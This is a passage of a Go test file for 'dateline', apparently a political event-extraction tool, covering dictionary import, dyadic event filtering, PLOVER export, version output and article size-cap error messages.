	good := write(t, dir, "actors.txt", []byte("VLADIMIR_PUTIN_\n[RUSGOV 000507-080507]\n\nSOME_GROUP_ [~REB]\n"))
	bad := write(t, dir, "notes.txt", []byte("Shopping list\nmilk\n"))
	out := write(t, dir, "kb.tsv", []byte("kept\n"))
	if _, _, err := run(t, "kb", "import", bad, "-o", out); err == nil || !strings.Contains(err.Error(), "notes.txt") {
		t.Errorf("import of a non-dictionary: err = %v; want one naming the file", err)
	}
	if b, _ := os.ReadFile(out); string(b) != "kept\n" {
		t.Errorf("output file now holds %q", b)
	}
	if stdout, stderr, err := run(t, "kb", "import", good); err != nil || !strings.Contains(stdout, "vladimir-putin") {
		t.Errorf("import of a dictionary: %v\n%s%s", err, stdout, stderr)
	}
}

// TestExtractDyadic: --dyadic keeps only events with a country on both
// sides; without it, an event with an unknown side is kept, that side null.
func TestExtractDyadic(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a.txt", []byte(`Kenya urges calm

NAIROBI, May 4 (Reuters) - Kenya's foreign minister urged calm on Monday. Kenya accused Egypt of violating the treaty, the minister said.
`))
	count := func(args ...string) (all, oneSided int) {
		t.Helper()
		stdout, _, err := run(t, append([]string{"extract", "-q"}, args...)...)
		if err != nil {
			t.Fatal(err)
		}
		var a struct {
			Events []struct {
				Source *struct{ Country *string } `json:"source"`
				Target *struct{ Country *string } `json:"target"`
			} `json:"events"`
		}
		if err := json.Unmarshal([]byte(strings.TrimSpace(stdout)), &a); err != nil {
			t.Fatal(err)
		}
		for _, e := range a.Events {
			all++
			if e.Source == nil || e.Source.Country == nil || e.Target == nil || e.Target.Country == nil {
				oneSided++
			}
		}
		return all, oneSided
	}
	all, one := count(dir)
	if one == 0 || all == one {
		t.Fatalf("the story should give events with and without an unknown side: %d events, %d one-sided", all, one)
	}
	dy, dyOne := count("--dyadic", dir)
	if dyOne != 0 || dy != all-one {
		t.Errorf("--dyadic: %d events, %d one-sided; want %d, 0", dy, dyOne, all-one)
	}

	// export --dyadic writes the same events from a store
	db := filepath.Join(dir, "t.db")
	if _, stderr, err := run(t, "ingest", "--db", db, dir); err != nil {
		t.Fatalf("ingest: %v\n%s", err, stderr)
	}
	lines := func(args ...string) int {
		t.Helper()
		out, _, err := run(t, append([]string{"export", "--db", db, "--format", "plover"}, args...)...)
		if err != nil {
			t.Fatal(err)
		}
		return strings.Count(out, "\n")
	}
	if n, d := lines(), lines("--dyadic"); n != all || d != dy {
		t.Errorf("export: %d events, --dyadic %d; want %d, %d", n, d, all, dy)
	}
}

// --version tells the build, so an export can be traced to its code.
func TestVersion(t *testing.T) {
	out, _, err := run(t, "--version")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out, "dateline version ") || strings.TrimSpace(strings.TrimPrefix(out, "dateline version ")) == "" {
		t.Errorf("--version printed %q", out)
	}
}

// TestRawCapNamed: an input refused as too large is told with the cap the
// user gave, not only the raw cap (four times --max-article-bytes).
func TestRawCapNamed(t *testing.T) {
	noConfig(t)
	dir := t.TempDir()
	write(t, dir, "long.txt", []byte("WASHINGTON (AP) - "+strings.Repeat("The talks went on. ", 40)))
	_, stderr, _ := run(t, "extract", "--max-article-bytes", "100", dir)
	if !strings.Contains(stderr, "long.txt") || !strings.Contains(stderr, "--max-article-bytes 100") || !strings.Contains(stderr, "400 bytes") {
		t.Errorf("stderr = %q; want the file, the raw cap (400 bytes) and --max-article-bytes 100", stderr)
	}
}
